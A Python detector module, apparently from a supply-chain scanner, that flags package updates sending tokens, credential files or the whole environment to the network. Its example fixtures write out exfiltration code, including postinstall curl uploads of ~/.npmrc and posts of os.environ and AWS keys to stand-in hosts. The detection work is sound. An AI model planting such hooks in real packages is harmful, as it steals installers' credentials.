"""This update leads a credential, or the whole environment, to the network.

## What it detects
A flow from the reading of a secret (token file, key, credential variable, metadata address) or of the whole
environment to a connection or a DNS query, that the line never had; a command that is started with the secret and
connects is a connection too. *data* means that the value itself was followed,
*scope* that both stand in one function. Several different secrets, or a destination of a suspicious sort (raw
address, webhook, messenger, paste site, tunnel, hidden name), make it a harvest.
At first contact flows in code that runs by itself are asked, and an ordinary one weighs little: installers do
send a token to the service that issued it. An installation that sends the content of a credential file, or a token to
a host that has nothing to do with its name, is no ordinary one. Of functions only those are told that send the whole
environment, or what a file or a store of keys holds: a variable may be a setting of the very service that it goes to.

## Why it matters
32 of 75 documented incidents read credential paths or the environment; the stolen tokens publish the next ones.

## What it misses
Secrets that a caller passes in; a flow through a file, another process, a data base or an event; lines that always sent
a token somewhere and now send it elsewhere in plain sight.

## References
- MITRE ATT&CK T1552.001, T1552.005, T1041, T1567
"""

from collections.abc import Iterator

from lazaretto.core.destination import destination, own_service
from lazaretto.core.facts import Fact, Kind, Reach
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import AUTORUN, Chain, Tally, decoded, hidden, in_tests, new_chains, package_json
from lazaretto.core.update import Pair, Update

CARD = Card(
    id="secret-flows-to-network",
    title="A secret goes to the network",
    variants={
        "harvest": "Code that runs by itself sends several secrets, or sends one to a suspicious destination.",
        "autorun-data": "In code that runs by itself the value of a secret goes to the network.",
        "autorun-scope": "In code that runs by itself a secret is read and a connection made in one function.",
        "call-harvest": "A function sends several secrets, or sends one to a suspicious destination.",
        "call-environment": "A function sends the whole environment.",
        "call-gained": "In a function a secret goes to the network; the line neither read any nor connected before.",
        "call-data": "In a function the value of a secret goes to the network.",
        "call-scope": "In a function a secret is read and a connection made.",
        "first-contact-harvest": "No earlier release; what runs by itself sends several secrets or hides where to.",
        "first-contact-taken": "No earlier release; a credential is taken to a host that it does not belong to.",
        "first-contact": "No earlier release; code that runs by itself sends a secret.",
        "first-contact-call": "No earlier release; a function sends the whole environment, or a store of keys.",
    },
    group="flow",
    why="What is read here belongs to whoever installs the package.",
    attack=("T1195.002", "T1552.001", "T1041"),
)

_SOURCES = (Kind.SECRET_READ, Kind.ENV_DUMP)
_SINKS = (Kind.NET_CONNECT, Kind.DNS_QUERY)
_EITHER = frozenset((*_SOURCES, *_SINKS))
_MANY = 3

_BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
_INSTALLED = {
    "package.json": package_json("1.0.0", scripts={"postinstall": "node install.js"}),
    "index.js": "module.exports = (a) => a;\n",
}
_CLIENT = (
    "exports.call = function call() {\n"
    "  return fetch('https://api.invalid/v1', { headers: { authorization: process.env.API_TOKEN } });\n};\n"
)

EXAMPLES = (
    Example(
        title="the entry file posts the user's registry token",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const fs = require('fs');\nconst os = require('os');\n"
            "const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
            "fetch('https://collect.invalid/in', { method: 'POST', body: token });\n"
            "module.exports = (a) => a;\n",
        },
        expect="autorun-data",
        at="index.js:3",
    ),
    Example(
        title="a Python package posts the whole environment to a bare address at import",
        ecosystem="pypi",
        before={"pad/__init__.py": "WIDTH = 2\n"},
        after={
            "pad/__init__.py": "import json, os, urllib.request\n"
            "data = json.dumps(dict(os.environ)).encode()\n"
            "urllib.request.urlopen('http://198.51.100.7/in', data=data)\nWIDTH = 2\n"
        },
        expect="harvest",
        at="pad/__init__.py:2",
    ),
    Example(
        title="each new object sends every variable of the environment",
        ecosystem="pypi",
        before={"pad/__init__.py": "class Pad(dict):\n    WIDTH = 2\n"},
        after={
            "pad/__init__.py": "import os, requests\nclass Pad(dict):\n    WIDTH = 2\n    def __init__(self):\n"
            "        text = ''\n        for value in os.environ.values():\n            text += value\n"
            "        requests.get('https://collect.invalid/in/' + text)\n"
        },
        expect="call-environment",
        at="pad/__init__.py:6",
    ),
    Example(
        title="a helper that never connected sends a key of its caller's cloud",
        ecosystem="pypi",
        before={"pad/__init__.py": "def pad(a):\n    return a\n"},
        after={
            "pad/__init__.py": "import os, requests\ndef pad(a):\n    key = os.environ.get('AWS_SECRET_ACCESS_KEY')\n"
            "    requests.post('https://collect.invalid/in', data=key)\n    return a\n"
        },
        expect="call-gained",
        at="pad/__init__.py:3",
    ),
    Example(
        title="first contact with an installer that posts the user's registry token",
        after={
            **_INSTALLED,
            "install.js": "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\n"
            "const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
            "const request = https.request('https://collect.invalid/in', { method: 'POST' });\n"
            "request.write(token);\nrequest.end();\n",
        },
        expect="first-contact-taken",
        at="install.js:4",
    ),
    Example(
        title="first contact with an installer that starts a command with a token and an address",
        after={
            **_INSTALLED,
            "install.js": "require('child_process').exec("
            "'curl -d \"' + process.env.NPM_TOKEN + '\" https://collect.invalid');\n",
        },
        expect="first-contact-taken",
        at="install.js:1",
    ),
    Example(
        title="first contact with a lifecycle script that uploads a credential file",
        after={
            "package.json": package_json(
                "1.0.0", scripts={"postinstall": "curl -d @$HOME/.npmrc https://collect.invalid/in"}
            ),
            "index.js": "module.exports = (a) => a;\n",
        },
        expect="first-contact-taken",
        at="package.json:6",
    ),
    Example(
        title="first contact with an installer that shows a token to the service that issued it",
        after={
            **_INSTALLED,
            "install.js": "fetch('https://api.github.com.invalid/releases',"
            " { headers: { authorization: process.env.GITHUB_TOKEN } });\n",
        },
        expect="first-contact",
        at="install.js:1",
    ),
    Example(
        title="first contact with a function that sends the keys of a cloud",
        ecosystem="pypi",
        after={
            "pad/__init__.py": "import boto3, requests\nWIDTH = 2\ndef connect():\n"
            "    keys = boto3.Session().get_credentials()\n"
            "    requests.post('https://collect.invalid/in', json={'k': keys.secret_key})\n",
        },
        expect="first-contact-call",
        at="pad/__init__.py:4",
    ),
    Example(
        title="first contact with an installer that downloads with the environment it was given",
        after={
            **_INSTALLED,
            "install.js": "const { execSync } = require('child_process');\n"
            "execSync('curl -O https://files.invalid/pad-1.0.0.tgz', { env: process.env });\n",
        },
    ),
    Example(
        title="a client library sends its token to its own service, as it always did",
        before={"package.json": package_json("1.0.0"), "index.js": _CLIENT},
        after={"package.json": package_json("1.1.0"), "index.js": _CLIENT.replace("v1", "v2")},
    ),
    Example(
        title="a program reads its own settings from the environment and connects",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const level = process.env.LOG_LEVEL;\n"
            "exports.send = function send(text) { return fetch('https://log.invalid/' + level, { body: text }); };\n",
        },
    ),
)

_MESSAGES = {
    "harvest": "sends secrets to the network without being called",
    "autorun-data": "sends a secret to the network without being called",
    "autorun-scope": "reads a secret and connects to the network without being called",
    "call-harvest": "sends secrets to the network when it is called",
    "call-environment": "sends the whole environment to the network when it is called",
    "call-gained": "sends a secret to the network when it is called, and no earlier release read any or connected",
    "call-data": "sends a secret to the network when it is called",
    "call-scope": "reads a secret and connects to the network when it is called",
    "first-contact-harvest": "sends secrets to the network without being called",
    "first-contact-taken": "sends a credential to a host that it does not belong to, without being called",
    "first-contact": "sends a secret to the network without being called",
    "first-contact-call": "sends the whole environment, or what a store of keys holds, when it is called",
}


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant; the strongest variant of a file takes all its flows."""
    tally = Tally(CARD)
    for pair in update.pairs:
        files: dict[str, list[tuple[Chain, bool]]] = {}
        for chain, new_kind in new_chains(pair, _SOURCES, _SINKS):
            files.setdefault(chain.source.path, []).append((chain, new_kind))
        for path, found in files.items():
            for variant, chain in _judge(pair, found):
                tally.add(variant, pair, chain.source, chain.sink)
                tally.explain(variant, decoded(pair, path))
    yield from tally.findings(_MESSAGES)


def _judge(pair: Pair, found: list[tuple[Chain, bool]]) -> Iterator[tuple[str, Chain]]:
    for autorun in (True, False):
        here = [(chain, new_kind) for chain, new_kind in found if (chain.reach in AUTORUN) is autorun]
        harvest = _is_harvest([chain for chain, _ in here])
        gained = _is_gained(pair) and not all(_belongs(chain) for chain, new_kind in here if new_kind and chain.data)
        for chain, new_kind in here:
            if pair.before is None:
                if autorun:
                    plain = "first-contact-taken" if _is_taken(chain) else "first-contact"
                    yield "first-contact-harvest" if harvest else plain, chain
                elif chain.data and not in_tests(chain.source.path) and _is_store(chain.source.fact):
                    yield "first-contact-call", chain
            elif harvest:
                yield "harvest" if autorun else "call-harvest", chain
            elif new_kind and not autorun and chain.data and chain.source.fact.kind is Kind.ENV_DUMP:
                yield "call-environment", chain
            elif new_kind and not autorun and chain.data and gained:
                yield "call-gained", chain
            elif new_kind:
                yield f"{'autorun' if autorun else 'call'}-{'data' if chain.data else 'scope'}", chain


def _is_gained(pair: Pair) -> bool:
    """Whether no earlier release ever read a secret or connected: a client of something did one of them before."""
    before = pair.before.placed if pair.before is not None else ()
    return not any(placed.fact.kind in _EITHER for placed in before)


def _belongs(chain: Chain) -> bool:
    """Whether a token goes to the very service that its name says it was issued by."""
    return own_service(chain.source.fact.value or "", chain.sink.fact.value) is True


def _is_taken(chain: Chain) -> bool:
    """Whether a credential goes where it does not belong; what cannot be told is held against a command alone."""
    if not chain.data or chain.source.fact.kind is not Kind.SECRET_READ:
        return False
    own = own_service(chain.source.fact.value or "", chain.sink.fact.value)
    return own is not True if chain.command else own is False and chain.reach is Reach.INSTALL


def _is_store(fact: Fact) -> bool:
    """Whether what is read is the whole environment, or no variable that a caller sets for this very purpose."""
    return fact.kind is Kind.ENV_DUMP or not (fact.value or "X").replace("_", "").isalnum()


def _is_harvest(found: list[Chain]) -> bool:
    """Whether flows that are new together are more than a client with its own token."""
    secrets = {chain.source.fact.value for chain in found if chain.source.fact.kind is Kind.SECRET_READ} - {None}
    gone_to = [chain.sink.fact for chain in found if chain.data]
    return len(secrets) >= _MANY or any(destination(fact.value) or hidden(fact) for fact in gone_to)
